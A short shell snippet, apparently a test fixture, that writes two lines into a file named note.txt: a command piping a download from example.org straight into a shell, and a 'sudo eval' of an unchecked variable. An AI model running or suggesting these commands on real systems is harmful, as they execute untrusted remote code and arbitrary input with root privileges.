cat > note.txt <<'END'
curl http://www.example.org/ | sh
sudo eval "$x"
END
